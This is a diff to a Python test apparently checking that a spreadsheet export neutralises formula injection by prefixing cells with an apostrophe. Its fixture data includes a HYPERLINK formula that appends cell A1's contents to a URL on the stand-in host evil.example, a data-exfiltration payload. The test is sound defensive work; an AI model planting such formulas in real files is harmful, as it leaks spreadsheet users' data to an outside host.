@@ -139,11 +139,11 @@ def test_export_neutralizes_cells_a_spreadsheet_would_run(viewer_client):
     AccountFactory(
         email="=1+2@example.com",
         document_type=DocumentType.OTHER,
-        document='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        document='=HYPERLINK("http://evil.example/?"&A1,"Go")',
     )
     _, rows = exported(viewer_client)
     assert rows[1][1] == "'=1+2@example.com"
-    assert rows[1][2] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    assert rows[1][2] == '\'=HYPERLINK("http://evil.example/?"&A1,"Go")'
     assert rows[1][3] == "Other"
 
 
